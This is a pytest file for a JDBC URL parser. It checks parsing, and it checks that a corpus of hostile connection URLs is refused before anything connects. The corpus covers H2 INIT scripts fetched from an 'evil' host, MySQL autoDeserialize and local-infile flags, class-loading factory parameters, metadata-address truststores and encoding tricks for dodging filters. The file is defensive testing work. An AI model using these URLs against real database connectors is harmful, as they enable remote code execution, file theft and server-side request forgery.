"""JDBC URLs: parts, and a corpus of attacks that must be refused before anything connects."""

from __future__ import annotations

import pytest

from airflow_kconnect.connect.config import ConfigDef, LambdaValidator, Type
from airflow_kconnect.connect.errors import ConfigError
from airflow_kconnect.connectors.jdbc.driver.urls import JdbcUrl, url_validator


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("jdbc:postgresql://h:5432/db?sslmode=require", ("postgresql", "h", 5432, "db")),
        ("JDBC:PostgreSQL://h/db", ("postgresql", "h", None, "db")),
        ("jdbc:postgresql://h1:1,h2:2/my%20db", ("postgresql", "h1", 1, "my db")),
        ("jdbc:postgresql://[::1]:5432/db", ("postgresql", "[::1]", 5432, "db")),
        ("jdbc:postgresql:db", ("postgresql", "localhost", None, "db")),
        ("jdbc:mysql://h/db?useSSL=false", ("mysql", "h", None, "db")),
        ("jdbc:mysql+srv://h/db", ("mysql", "h", None, "db")),
        ("jdbc:mysql:loadbalance://h1:3306,h2/db", ("mysql", "h1", 3306, "db")),
        ("jdbc:mysql://address=(host=h)(port=3307)/db", ("mysql", "h", 3307, "db")),
        ("jdbc:mysql://(host=h,port=3307,useSSL=false)/db", ("mysql", "h", 3307, "db")),
        ("jdbc:mariadb://h:3306/db", ("mariadb", "h", 3306, "db")),
        ("jdbc:sqlite:/a/b c.db", ("sqlite", None, None, "/a/b c.db")),
        ("jdbc:sqlite:/a/b.db?cache=shared", ("sqlite", None, None, "/a/b.db")),
        ("jdbc:derby:/a/b;create=true", ("derby", None, None, "/a/b")),
        ("jdbc:derby://h:1527/db;create=true", ("derby", "h", 1527, "db")),
        ("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1", ("h2", None, None, "mem:x")),
        ("jdbc:h2:tcp://h:9092/db;TIME ZONE=Europe/Berlin", ("h2", "h", 9092, "db")),
        ("jdbc:hsqldb:hsql://h:9001/db;close_result=true", ("hsqldb", "h", 9001, "db")),
        ("jdbc:hsqldb:hsqls://h/db", ("hsqldb", "h", None, "db")),
        ("jdbc:hsqldb:file:/a/b;ifexists=true", ("hsqldb", None, None, "file:/a/b")),
        ("jdbc:sqlserver://h\\one:1433;databaseName=x;encrypt=true", ("sqlserver", "h", 1433, "x")),
        ("jdbc:oracle:thin:@h:1521:sid", ("oracle", "h", 1521, "sid")),
        ("jdbc:oracle:thin:@//h:1521/service", ("oracle", "h", 1521, "service")),
        ("jdbc:oracle:thin:@tcps://h:1521/service", ("oracle", "h", 1521, "service")),
    ],
)
def test_parts(text: str, expected: tuple[str, str | None, int | None, str]) -> None:
    url = JdbcUrl.parse(text)
    assert (url.subprotocol, url.host, url.port, url.database) == expected
    assert url.text == text


def test_parameters_are_decoded() -> None:
    url = JdbcUrl.parse("jdbc:postgresql://h/db?ApplicationName=a%20b&sslmode=require&tcpKeepAlive")
    assert url.params == {"ApplicationName": "a b", "sslmode": "require", "tcpKeepAlive": ""}


def test_is_shown_without_parameters() -> None:
    url = JdbcUrl.parse("jdbc:postgresql://h:5432/db?sslpassword=canary")
    assert url.shown == "jdbc:postgresql://h:5432/db"
    assert "canary" not in repr(url)


@pytest.mark.parametrize(
    "text",
    ["", "jdbc:", "jdbc:postgresql", "jdbc:postgresql:", "postgresql://h/db", "http://h/db", "jdbc:sqlite:/a\nb"],
)
def test_no_jdbc_url(text: str) -> None:
    with pytest.raises(ValueError, match="is not a JDBC URL"):
        JdbcUrl.parse(text)


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("jdbc:postgresql://h/db?socketFactory=a.B&socketFactoryArg=x", "socketFactory"),
        ("jdbc:postgresql://h/db?%73ocketFactory=a.B", "socketFactory"),
        ("jdbc:postgresql://h/db?%2573ocketFactory=a.B", "socketFactory"),
        ("jdbc:postgresql://h/db?SOCKETFACTORY=a.B", "SOCKETFACTORY"),
        ("jdbc:postgresql://h/db?sslmode=x& sslfactory =a.B", "sslfactory"),
        ("jdbc:postgresql:/?sslhostnameverifier=a.B", "sslhostnameverifier"),
        ("jdbc:postgresql://h/db?sslpasswordcallback=a.B", "sslpasswordcallback"),
        ("jdbc:postgresql://h/db?authenticationPluginClassName=a.B", "authenticationPluginClassName"),
        ("jdbc:postgresql://h/db?xmlFactoryFactory=a.B", "xmlFactoryFactory"),
        ("jdbc:postgresql://h/db?loggerLevel=TRACE&loggerFile=/srv/x.jsp", "loggerFile"),
        ("jdbc:postgresql:///?service=x", "service"),
        ("jdbc:mysql://h/db?autoDeserialize=true", "autoDeserialize"),
        ("jdbc:mysql://h/db?queryInterceptors=a.B", "queryInterceptors"),
        ("jdbc:mysql://h/db?statementInterceptors=a.B", "statementInterceptors"),
        ("jdbc:mysql://h/db?detectCustomCollations=true", "detectCustomCollations"),
        ("jdbc:mysql://h/db?allowLoadLocalInfile=true", "allowLoadLocalInfile"),
        ("jdbc:mysql://h/db?allowLoadLocalInfileInPath=/", "allowLoadLocalInfileInPath"),
        ("jdbc:mysql://h/db?allowUrlInLocalInfile=true", "allowUrlInLocalInfile"),
        ("jdbc:mysql://h/db?defaultAuthenticationPlugin=a.B", "defaultAuthenticationPlugin"),
        ("jdbc:mysql://h/db?propertiesTransform=a.B", "propertiesTransform"),
        ("jdbc:mysql://h/db?ha.loadBalanceStrategy=a.B", "ha.loadBalanceStrategy"),
        ("jdbc:mysql://address=(host=h)(autoDeserialize=true)/db", "autoDeserialize"),
        ("jdbc:mysql://address=(host=h)(auto%44eserialize=true)/db", "autoDeserialize"),
        ("jdbc:mysql://(host=h,port=1,queryInterceptors=a.B)/db", "queryInterceptors"),
        ("jdbc:mysql://[(host=h1),(host=h2,allowLoadLocalInfile=true)]/db", "allowLoadLocalInfile"),
        ("jdbc:mysql://h/db?#&allowLoadLocalInfile=true", "allowLoadLocalInfile"),
        ("jdbc:mariadb://h/db?allowLocalInfile=true", "allowLocalInfile"),
        ("jdbc:mariadb://h/db?credentialType=x&socketFactory=a.B", "socketFactory"),
        ("jdbc:sqlite:/a.db?enable_load_extension=true", "enable_load_extension"),
        ("jdbc:mariadb://h/db?credentialType=ENV&userKey=SECRET", "credentialType"),
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "INIT"),
        (r"jdbc:h2:mem:x;IN\IT=RUNSCRIPT FROM 'http://evil/x.sql'", r"IN\IT"),
        (r"jdbc:h2:mem:x;TRACE_LEVEL_FI\LE=3", r"TRACE_LEVEL_FI\LE"),
        ("jdbc:h2:mem:x;MODE=MySQL\\; init =CREATE ALIAS X", "init"),
        ("jdbc:h2:mem:x;\u0131nit=CREATE ALIAS X", "\u0131nit"),
        ("jdbc:h2:mem:x;TRACE_LEVEL_FILE=3", "TRACE_LEVEL_FILE"),
        ("jdbc:derby:x;startMaster=true;slaveHost=evil", "slaveHost, startMaster"),
        ("jdbc:derby:x;createFrom=/backup", "createFrom"),
        ("jdbc:derby:x;encryptionProvider=a.B", "encryptionProvider"),
        ("jdbc:hsqldb:file:x;crypt_provider=a.B", "crypt_provider"),
        ("jdbc:hsqldb:file:x;hsqldb.temp_directory=/srv", "hsqldb.temp_directory"),
        ("jdbc:hsqldb:mem:x;textdb.allow_full_path=true", "textdb.allow_full_path"),
        ("jdbc:db2://h:1/db:clientRerouteServerListJNDIName=ldap;", "clientRerouteServerListJNDIName"),
        ("jdbc:db2://h:1/db:traceFile=/x;", "traceFile"),
        ("jdbc:sqlserver://h;trustManagerClass=a.B", "trustManagerClass"),
        ("jdbc:sqlserver://h;socketFactoryClass=a.B", "socketFactoryClass"),
        ("jdbc:oracle:thin:@h:1:s?TNS_ADMIN=/tmp", "TNS_ADMIN"),
        ("jdbc:hive2://h/;initFile=/tmp/x.sql", "initFile"),
        ("jdbc:redshift://h/db?plugin_name=a.B", "plugin_name"),
        ("jdbc:calcite:model=/x.json", "model"),
        ("jdbc:avatica:remote:url=http://h;httpclient_impl=a.B", "httpclient_impl"),
        ("jdbc:unknown://h?x=1;SocketFactory=a.B", "SocketFactory"),
        ("jdbc:databricks://h;KrbJAASFile=/x", "KrbJAASFile"),
        ("jdbc:redshift://h/db?LogPath=/srv", "LogPath"),
        ("jdbc:exa:h;logdir=/srv", "logdir"),
    ],
)
def test_parameters_that_load_code_or_files(text: str, named: str) -> None:
    with pytest.raises(ValueError, match="can load code") as raised:
        JdbcUrl.parse(text)
    assert named in str(raised.value)
    assert "a.B" not in str(raised.value)


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("jdbc:postgresql://h/db?newInSomeVersion=1&sslmode=require", "newInSomeVersion"),
        ("jdbc:postgresql://h/db?PGHOST=other", "PGHOST"),
        ("jdbc:mysql://(host=h,userKey=x)/db", "userKey"),
        ("jdbc:mariadb://h/db?userKey=SECRET", "userKey"),
        ("jdbc:sqlite:/a.db?vfs=evil", "vfs"),
        ("jdbc:sqlite:/a.db?temp_store_directory=/srv", "temp_store_directory"),
        ("jdbc:derby:x;shutdown=true", "shutdown"),
        ("jdbc:h2:mem:x;BUILTIN_ALIAS_OVERRIDE=1", "BUILTIN_ALIAS_OVERRIDE"),
        ("jdbc:hsqldb:hsql://h/db;filepath=file:/srv/x", "filepath"),
        ("jdbc:hsqldb:hsql://h/db;file:/srv/x", "file:/srv/x"),
    ],
)
def test_of_known_databases_only_known_parameters_are_possible(text: str, named: str) -> None:
    with pytest.raises(ValueError, match=f"not among those allowed for .*: {named};"):
        JdbcUrl.parse(text)


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=http://169.254.169.254/",
        "jdbc:mysql://h/db?clientCertificateKeyStoreUrl=file://evil/x",
        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=jar%3Afile:/x!/y",
        "jdbc:mariadb://h/db?trustStore=ftp://evil/x",
        "jdbc:sqlserver://h;trustStore=https://evil/x",
    ],
)
def test_keys_and_certificates_are_files(text: str) -> None:
    with pytest.raises(ValueError, match="not in a file of this machine"):
        JdbcUrl.parse(text)


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:oracle:thin:@ldap://evil/x",
        "jdbc:oracle:thin:@config-https://evil/x",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:sqlite::%72esource:jar:http://evil/x.jar!/a.db",
        "jdbc:derby:classpath:x",
        "jdbc:hsqldb:res:/x",
        "jdbc:ignite:cfg://http://evil/x.xml",
    ],
)
def test_places_that_load_code(text: str) -> None:
    with pytest.raises(ValueError, match="place that can load code"):
        JdbcUrl.parse(text)


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:postgresql://h/db?user=me&password=canary",
        "jdbc:postgresql://h/db?pass%77ord=canary",
        "jdbc:postgresql://me:canary@h/db",
        "jdbc:mysql://me:canary@h:1/db",
        "jdbc:mysql://me%3Acanary%40h:1/db",
        "jdbc:mysql://address=(host=h)(password=canary)/db",
        "jdbc:sqlserver://h;user=me;PASSWORD=canary",
        "jdbc:oracle:thin:me/canary@//h:1/x",
        "jdbc:h2:mem:x;USER=me;PASSWORD=canary",
        "jdbc:hsqldb:hsql://h/db?user=me&password=canary",
    ],
)
def test_credentials_belong_elsewhere(text: str) -> None:
    with pytest.raises(ValueError, match=r"connection\.password") as raised:
        JdbcUrl.parse(text)
    assert "canary" not in str(raised.value)


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:postgresql://h/db?sslmode=verify-full&sslrootcert=/ca.pem&sslcert=/c.pem&sslkey=/k.pk8",
        "jdbc:postgresql://h/db?currentSchema=a,b&reWriteBatchedInserts=true&options=-c%20statement_timeout=5s",
        "jdbc:postgresql://h/db?ApplicationName=init&user=me",
        "jdbc:mysql://h/db?serverTimezone=UTC&rewriteBatchedStatements=true&sslMode=REQUIRED&sessionVariables=a=1",
        "jdbc:mysql://h/db?trustCertificateKeyStoreUrl=file:/x&failOverReadOnly=false&initialTimeout=1",
        "jdbc:mariadb://h/db?trustStore=file:///x.p12&keyStore=/y.p12",
        "jdbc:sqlite:/data/(x=1).db",
        "jdbc:mariadb://h/db?useBulkStmts=true&serverSslCert=/ca.pem",
        "jdbc:hsqldb:hsqls://h/db;user=me;get_column_name=false;memory_lobs=true",
        "jdbc:hsqldb:mem:x;sql.syntax_pgs=true;hsqldb.tx=mvcc",
        "jdbc:sqlserver://h;databaseName=x;encrypt=true;trustServerCertificate=false;failoverPartner=other",
        "jdbc:sqlite:/home/me@work/x.db",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=h)(PORT=1))(CONNECT_DATA=(SERVICE_NAME=x)))",
    ],
)
def test_what_is_harmless_passes(text: str) -> None:
    assert JdbcUrl.parse(text).text == text


class TestValidator:
    @pytest.mark.parametrize("validator", [url_validator, LambdaValidator(url_validator)])
    def test_messages_do_not_show_the_url(self, validator: LambdaValidator) -> None:
        definition = ConfigDef().define("connection.url", Type.STRING, validator=validator)
        with pytest.raises(ConfigError) as raised:
            definition.parse({"connection.url": "jdbc:postgresql://h/db?password=canary"})
        assert "connection.password" in raised.value.errors["connection.url"][0]
        assert "canary" not in str(raised.value)

    def test_a_missing_url_is_another_error(self) -> None:
        assert url_validator("connection.url", None) is None
        assert url_validator("connection.url", "jdbc:sqlite:/x") is None
